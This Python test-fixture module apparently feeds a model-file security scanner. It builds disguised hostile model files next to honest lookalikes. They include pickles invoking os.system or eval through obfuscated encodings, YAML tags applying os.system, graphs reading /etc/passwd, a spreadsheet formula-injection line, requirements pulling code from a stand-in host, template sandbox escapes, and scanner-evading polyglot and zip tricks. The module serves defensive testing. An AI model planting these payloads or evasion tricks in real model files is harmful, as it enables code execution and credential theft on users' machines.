"""Hostile model files in disguise, as collections of malicious models hold them, and honest files that look like them.

Rules: as in `tests.models`: everything is built here, what a file would run is harmless, and nothing is ever loaded.
"""

import base64
import binascii
import bz2
import gzip
import json
import lzma
import pickle
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

from tests import models
from tests.models import PAYLOAD, SOUND, TEXT_PICKLE, gguf, safetensors, tarred, zipped

LONG = b"cos\nsystem\n(S'" + b"true; " * 400 + b"'\ntR."  # what is called stands far in front of the call
PADDED = b"S'" + b"A" * 3_000_000 + b"'\n0" + TEXT_PICKLE  # a line longer than any that a reader takes at once
# The frame ends within a text; CPython drops the rest of it and goes on behind, where other readers see no pickle.
LEFT_FRAME = b"\x95\x05" + bytes(7) + b"\x80\x04\x8c\x02ous\x8c\x06system\x93)R."
COMPRESSED: Mapping[str, bytes] = {
    "zlib": zlib.compress(PAYLOAD), "gz": gzip.compress(PAYLOAD), "bz2": bz2.compress(PAYLOAD), "xz": lzma.compress(PAYLOAD),
    "lzma": lzma.compress(PAYLOAD, lzma.FORMAT_ALONE), "lz4": b"\x04\x22\x4d\x18\x64\x40\xa7" + PAYLOAD,
    "zst": b"\x28\xb5\x2f\xfd\x24" + PAYLOAD, "zfile": b"ZF0x" + b"%19x" % len(PAYLOAD) + zlib.compress(PAYLOAD),
}  # fmt: skip


class Runs:
    """Pickled, it asks for *call* of *module* to be called with *arguments*; it is never unpickled."""

    def __init__(self, call: Any, *arguments: Any) -> None:
        self.asked = call, arguments

    def __reduce__(self) -> Any:
        return self.asked


def _nested(outer: Any) -> bytes:
    return pickle.dumps(Runs(eval, outer))


def _torch(data: bytes = PAYLOAD, **members: bytes) -> bytes:
    return zipped({"archive/data.pkl": data, "archive/version": b"3\n", **members})


def _zip_with(field: int, value: bytes, *, central: bool) -> bytes:
    """Return a checkpoint with *value* put into a header of its zip, *field* bytes behind the header's signature."""
    archive = _torch()
    at = archive.index(b"PK\x01\x02" if central else b"PK\x03\x04") + field
    return archive[:at] + value + archive[at + len(value) :]


def _meta(**metadata: str) -> bytes:
    return safetensors(SOUND, metadata)


def _tensor(content: bytes, dtype: str = "U8") -> bytes:
    return safetensors({"w": ("F32", [1], bytes(4)), "x": (dtype, [len(content)], content)})


def _words(value: object) -> bytes:
    return json.dumps(value).encode()


def _polyglot(behind: bytes) -> bytes:
    """Return a sound safetensors file that is a pickle as well: its first byte makes a text of all up to a newline."""
    content = b"\n0" + behind
    entry = {"w": {"dtype": "F16", "shape": [len(content + b"0") // 2], "data_offsets": [0, (len(content) + 1) // 2 * 2]}}
    return models.framed(json.dumps(entry).encode().ljust(0x156), content.ljust((len(content) + 1) // 2 * 2, b"0"))


_ASKS = {
    "keras-model": {"class_name": "Functional", "module": "keras.models", "config": {"layers": [
        {"class_name": "function", "module": "keras.utils", "config": "get_file"}]}},
    "keras-torch": {"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": "gAS"}},
    "keras-js": {"modelTopology": {"layers": [{"className": "Lambda", "config": {}}]}},
    "keras-lambda": {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {
        "function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}}}]}},
    "latent": {"model": {"target": "os.system", "params": {"command": "id"}}},
    "dense": {"in_features": 1, "activation_function": "evil.Activation"},
    "cross-encoder": {"sbert_ce_default_activation_function": "evil.Activation"},
    "router": {"types": {"query_0": "evil.Module"}, "structure": {"query": ["query_0"]}},
    "kernels": {"kernel_config": {"kernel_mapping": {"RMSNorm": "owner/kernel"}}},
    "peft": {"peft_type": "LORA", "megatron_config": {}, "megatron_core": "evil"},
    "skops": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"},
    "auto": {"auto_map": {"AutoTokenizer": ["owner/other--tokenization.T", None]}},
    "deep": {"a": [{"b": {"auto_map": {"AutoConfig": "configuration.C"}}}]},
    "true-as-text": {"trust_remote_code": "true"},
}  # fmt: skip

_YAML = {
    "latent.yaml": b"model:\n  target: ldm.models.Model\n  params:\n    x: 1\n",
    "latent-list.yaml": b"- target: os.system\n  params: {command: id}\n",
    "tag.yaml": b"%TAG ! tag:yaml.org,2002:python/\n---\nx: !object/apply:os.system [id]\n",
    "long-tag.yaml": b"x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
    "list-tag.yaml": b"- !new:os.system\n  command: id\n",
    "inline-tag.yaml": b"x: [!apply:os.system [id]]\n",
    "included.yaml": b"x: !include:/etc/passwd\n",
    "bomb.yaml": b"a: &a [x]\nb: &b [*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b]\n",
    "requirements.txt": b"numpy\n--extra-index-url https://example.invalid/simple\nevil\n",
    "requirements-git.txt": b"evil @ git+https://example.invalid/evil\n",
    "padded.yaml": b"# words\n" * 100_000 + b"x: !!python/object/apply:os.system [id]\n",
    "padded.cfg": b"# words\n" * 100_000 + b"_target_: os.system\n",
}

_GRAPHS = {
    "lightgbm.txt": b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\n\nTree=0\nnum_leaves=1\nleaf_value=1\n\nend of trees\n",
    "model.lgb": b"tree\r\nversion=v3\r\nnum_class=1\r\n",
    "svm.txt": b"svm_type c_svc\nkernel_type rbf\nnr_class 2\n",
    "yolo.cfg": b"[net]\nbatch=1\n[convolutional]\nfilters=1\n",
    "ncnn.param": b"7767517\n2 2\nInput data 0 1 data\n",
    "model.mlir": b'module {\n  func.func @main() { call @system() : () -> () }\n}\n',
    "model.hlo": b"HloModule m\n\nENTRY main { ROOT x = f32[] constant(1) }\n",
    "kernel.txt": b".version 8.0\n.target sm_80\n.address_size 64\n",
    "torch7.txt": b"4\n1\n3\nV 1\n13\nnn.Sequential\n3\n2\n",
    "ascii.rds": b"A\n3\n262912\n197888\n6\nCP1252\n238\n",
    "ascii.rda": b"RDA3\nA\n3\n262912\n197888\n5\nUTF-8\n",
    "archive.txt": b"!<arch>\nx.txt/          0           0     0     644     4         `\nabcd",
    "caffe.prototxt": b'layer {\n  name: "x"\n  type: "Python"\n}\n',
    "model.openvino.txt": b'<?xml version="1.0"?>\n<net name="m" version="11"><layers/></net>\n',
    "letter.txt": b"begin 644 x.bin\n" + b"".join(binascii.b2a_uu(PAYLOAD[n : n + 45]) for n in range(0, 45, 45)) + b"`\nend\n",
}  # fmt: skip

_CONTAINERS = {
    **{f"payload.joblib.{name}": data for name, data in COMPRESSED.items()},
    **{f"{name}-model.pkl": data for name, data in COMPRESSED.items()},
    **{f"{name}.safetensors": data for name, data in COMPRESSED.items()},
    "torch.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + _torch(),
    "torch.pt": b"7z\xbc\xaf\x27\x1c\x00\x04" + _torch(),
    "torch.rar": b"Rar!\x1a\x07\x00" + _torch(),
    "torch5.pth": b"Rar!\x1a\x07\x01\x00" + _torch(),
    "encrypted.pt": _zip_with(6, b"\x01\x00", central=False),
    "unknown-method.pt": _zip_with(8, b"\x63\x00", central=False),
    "unknown-method-listed.pt": _zip_with(10, b"\x63\x00", central=True),
    "name-length.pt": _zip_with(26, b"\xff\x00", central=False),
    "listed-elsewhere.pt": _zip_with(42, b"\x01\x00\x00\x00", central=True),
    "listed-size.pt": _zip_with(24, b"\xff\xff\xff\x7f", central=True),
    "local-name.pt": _torch().replace(b"archive/data.pkl", b"archive/data.txt", 1),
    "central-name.pt": _torch()[::-1].replace(b"archive/data.pkl"[::-1], b"archive/data.txt"[::-1], 1)[::-1],
    "member-twice.pt": _torch() + _torch(),
    "stored-as-deflated.pt": zipped({"a/data.pkl": PAYLOAD}, zipfile.ZIP_DEFLATED).replace(b"\x08\x00", b"\x00\x00", 1),
    "lzma-member.pt": zipped({"a/data.pkl": PAYLOAD}, zipfile.ZIP_LZMA),
    "renamed.pickle.json": _torch(),
    "model.keras": zipped({"config.json": _words(_ASKS["keras-lambda"]), "metadata.json": b"{}"}),
    "model.h5": b"\x89HDF\r\n\x1a\n" + _words(_ASKS["keras-lambda"]) + bytes(64),
    "behind-a-block.h5": bytes(512) + b"\x89HDF\r\n\x1a\n" + bytes(64),
    "tf/saved_model.pb": b"\x08\x01\x12\x20\x12\x1e\x0a\x1c\x0a\x01r\x12\x08ReadFile\x1a\x0d/etc/passwd\0\0",
    "write/saved_model.pb": b"\x08\x01\x12\x21\x12\x1f\x0a\x1d\x0a\x01w\x12\x09WriteFile\x1a\x0d/etc/passwd\0\0",
    "legacy.tar": tarred({"pickle": PAYLOAD, "storages": PAYLOAD, "tensors": bytes(64)}),
    "legacy.json": tarred({"pickle": PAYLOAD}),
    "objects.npy": models.numpy_objects(),
    "objects.json": models.numpy_objects(),
    "objects.npz": zipped({"arr_0.npy": models.numpy_objects()}),
    "numbers.npy": b"\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }".ljust(128) + bytes(4),
    "program.pte": b"\x1c\x00\x00\x00ET12" + bytes(64),
    "paddle.pdmodel": b"\x0a\x20\x08\x00\x10\x00\x1a\x1a\x0a\x04fill\x12\x12py_func_registered\0\0",
    "paddle.pdparams": pickle.dumps({"w": Runs(print, "ran")}, protocol=2),
    "model.cbm": b"CBM1" + bytes(64), "model.ubj": b"{L\0\0\0\0\0\0\0\x07learner", "model.mlmodel": b"\x08\x05\x12\x04\x0a\x02id",
    "binary.rds": b"X\n\0\0\0\x03\0\x04\x03\0", "model.RData": gzip.compress(b"RDX3\nX\n\0\0\0\x03"),
    "java.ser": b"\xac\xed\x00\x05sr\x00\x04Evil", "ruby.marshal": b"\x04\x08o:\x09Evil\x00", "script.luac": b"\x1bLua\x54\0",
}  # fmt: skip

_PICKLES = {
    "eval-of-base64.pkl": _nested(f"__import__('base64').b64decode({base64.b64encode(PAYLOAD)!r})"),
    "eval-of-hex.pkl": _nested(f"bytes.fromhex('{PAYLOAD.hex()}')"),
    "eval-of-base85.pkl": _nested(f"__import__('base64').b85decode({base64.b85encode(PAYLOAD)!r})"),
    "pickle-in-pickle.pkl": pickle.dumps(Runs(pickle.loads, PAYLOAD)),
    "dill.dill": b"\x80\x04cdill._dill\n_create_function\n(cdill._dill\n_load_type\n(S'CodeType'\ntRtR.",
    "cloud.pkl": b"\x80\x05ccloudpickle.cloudpickle\n_make_function\n(I1\ntR.",
    **{f"protocol-0{suffix}": pickle.dumps(Runs(print, "ran"), protocol=0)
       for suffix in (".safetensors", ".gguf", ".txt", ".json", ".jsonl", ".csv", ".tsv", ".onnx", ".parquet", ".arrow", ".model",
                      ".yaml", ".jinja", ".md", ".xyz", "")},
    **{f"protocol-4{suffix}": PAYLOAD for suffix in (".jsonl", ".csv", ".parquet", ".arrow", ".yaml", ".jinja", ".md")},
    "padded.txt": PADDED, "padded.json": PADDED, "padded.csv": PADDED,
    "padded-unicode.txt": b"V" + b"A" * 3_000_000 + b"\n0" + TEXT_PICKLE,
    "padded-number.txt": b"I" + b"1" * 2_000_000 + b"\n0" + TEXT_PICKLE,
    "padded-name.txt": b"P" + b"A" * 2_000_000 + b"\n0" + TEXT_PICKLE,
    "data.csv": b"(S'text,label\\none,1'\n0" + TEXT_PICKLE,
    "left-frame.bin": LEFT_FRAME,
    "left-frame.safetensors": _polyglot(LEFT_FRAME),
    "text-line.safetensors": _polyglot(TEXT_PICKLE),
    "import-alone.txt": b"cos\nsystem\n.",
    "in-front.safetensors": PAYLOAD + safetensors(SOUND),
    "behind.safetensors": safetensors(SOUND) + PAYLOAD,
    "inside.safetensors": _tensor(PAYLOAD),
    "inside-signed.safetensors": _tensor(PAYLOAD, "I8"),
    "inside-text.safetensors": _tensor(TEXT_PICKLE),
    "in-front.gguf": PAYLOAD + gguf(),
    "behind.gguf": gguf() + PAYLOAD,
    "behind-text.json": b"{}\n" + PAYLOAD,
}  # fmt: skip

_HIDDEN = {
    "base85.txt": base64.b85encode(PAYLOAD),
    "base85.json": _words({"w": base64.b85encode(PAYLOAD).decode()}),
    "ascii85.txt": base64.a85encode(PAYLOAD, adobe=True),
    "base85-of-text.json": _words({"w": base64.b85encode(LONG).decode()}),
    "base85.safetensors": _meta(w=base64.b85encode(PAYLOAD).decode()),
    "wrapped-long.txt": base64.encodebytes(LONG),
    "wrapped-long.json": _words({"w": base64.encodebytes(LONG).decode()}),
    "wrapped-hex.txt": b"\n".join(LONG.hex().encode()[n : n + 60] for n in range(0, 2 * len(LONG), 60)),
    "octal.txt": b"'\\200\\004\\225'",
    "unicode.txt": b'"\\u0080\\u0004\\u0095"',
    "c-array.txt": b"{0x80, 0x04, 0x95, 0x20}",
    "numbers.json": _words({"w": list(PAYLOAD)}),
    "numbers.jsonl": _words({"w": list(TEXT_PICKLE)}) + b"\n",
    "compressed.json": _words({"w": base64.b64encode(lzma.compress(PAYLOAD)).decode()}),
    "lz4.json": _words({"w": base64.b64encode(COMPRESSED["lz4"] + PAYLOAD).decode()}),
    "java.json": _words({"w": base64.b64encode(b"\xac\xed\x00\x05sr\x00\x04Evil" + bytes(30)).decode()}),
    "formula.csv": b"text,label\n=cmd|'/C calc'!A0,1\n",
    "base64.safetensors": _meta(w=base64.b64encode(PAYLOAD).decode()),
    "latin.safetensors": _meta(w=PAYLOAD.decode("latin-1")),
    "json.safetensors": _meta(config=json.dumps(_ASKS["auto"])),
    "template-json.safetensors": _meta(config=json.dumps({"chat_template": "{{ x.__class__ }}"})),
    "yaml.safetensors": _meta(config="x: !!python/object/apply:os.system [id]"),
    "python.safetensors": _meta(config="import os\nos.system('true')\n"),
    "latin.gguf": gguf({"general.notes": PAYLOAD.decode("latin-1")}),
    "json.gguf": gguf({"general.config": json.dumps(_ASKS["auto"])}),
    "template.gguf": gguf({"tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
    "named-template.gguf": gguf({"tokenizer.chat_template.default": "{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}"}),
}  # fmt: skip

_CODE = {
    **dict.fromkeys(("kernel.cu", "native.cpp", "native.c", "header.h", "kernel.cl", "plugin.metal", "build.rs", "main.go", "Main.java", "script.r", "script.jl", "script.ts", "package.json", "setup.cfg", "pyproject.toml", ".envrc", ".bashrc", ".vscode/tasks.json", ".github/workflows/x.yml", ".devcontainer/devcontainer.json", "app.pyz", "run.command", "module.psm1", "macro.vbe", "library.a", "library.o", "addon.node", "driver.sys", "CMakeLists.txt", "Jenkinsfile"), b"words\n"),
    "site/sitecustomize.py": b"pass\n", "site/x.pth": b"import os\n",
}  # fmt: skip

DISGUISED: dict[str, bytes] = {
    **{f"asks/{name}.json": _words(value) for name, value in _ASKS.items()},
    **{f"asks/{name}.jsonl": _words(value) + b"\n" for name, value in _ASKS.items()},
    **{f"{folder}/{name}": data
       for folder, found in (("yaml", _YAML), ("graphs", _GRAPHS), ("containers", _CONTAINERS), ("pickles", _PICKLES),
                             ("hidden", _HIDDEN), ("code", _CODE))
       for name, data in found.items()},
}  # fmt: skip

LOOKALIKES: dict[str, bytes] = {
    "dense.json": _words({"in_features": 1, "activation_function": "torch.nn.modules.activation.Tanh"}),
    "gpt2.json": _words({"activation_function": "gelu_new", "target": "cpu", "types": ["a.b"], "module": "x"}),
    "router.json": _words({"types": {"q": "sentence_transformers.models.Transformer"}, "structure": {"q": ["q"]}}),
    "pixels.jsonl": b"".join(_words({"pixels": [(n * 7 + k) % 256 for k in range(784)]}) + b"\n" for n in range(8)),
    "tokens.jsonl": _words({"input_ids": [101, 2023, 40, 82, 46, 46, 102] * 9}) + b"\n",
    "bytes.safetensors": _tensor(bytes(range(256)) * 4),
    "eights.safetensors": _tensor(b"\x80\x04" + bytes((n * 37) % 251 for n in range(4000))),
    "state.safetensors": _tensor(b'{"quant_type": "nf4", "blocksize": 64}'),
    "config-inside.safetensors": _meta(format="pt", config=json.dumps({"architectures": ["GPT2LMHeadModel"], "eps": 1e-5})),
    "modelspec.safetensors": _meta(**{"modelspec.title": "A [model] {of mine}", "ss_tag_frequency": '{"a": {"b": 1}}'}),
    "minified.json": json.dumps({f"k{n}": f"v~!@#$%^&*()_+-{n}" for n in range(2000)}, separators=(",", ":")).encode(),
    "tree.txt": b"tree\nbush\nversion=2\n", "begin.txt": b"begin with words\nend\n", "net.txt": b"[networks]\na\n",
    "long-line.txt": b"S" + b"ome words " * 200_000 + b"\nand more\n",
    "svm.txt": b"An svm_type is\n", "lines.txt": b"".join(b"%040x\n" % (n * 7919) for n in range(500)),
    "digests.sha256": b"".join(base64.b64encode(bytes((n * k) % 256 for k in range(32))) + b"\n" for n in range(400)),
    "targets.yaml": b"target_modules:\n- q_proj\n- v_proj\ntarget: cpu\n",
    "scores.csv": b"text,score\n=,1\n-3.5,2\n@user,3\n+1 (555) 0100,4\n",
    "requirements.txt": b"torch>=2\ntransformers==4.57.6  # -e is no option here\n",
    "hydra.md": b"```yaml\nmodel:\n  _target_: package.Model\n  target: package.Model\n```\n",
    "peft.json": _words({"peft_type": "LORA", "megatron_config": None, "megatron_core": "megatron.core", "auto_mapping": None}),
    "anchors.yaml": b"a: &a {x: 1}\nb: *a\nc: [*a, *a]\n", "loud.txt": b"Stop!now: words!name: more\n",
    "README.md": b"# A model\n\n```cpp\nint main() {}\n```\n\nbegin 644 words\n",
    "numbers.json": _words({"zeros": [0] * 5000, "bytes": list(range(256)), "empty": [], "mixed": [1, "a", None]}),
    "unicode.txt": "a\u0080 \\u0041 \\200 words\n".encode().replace("\u0080".encode(), b"e"),
}  # fmt: skip
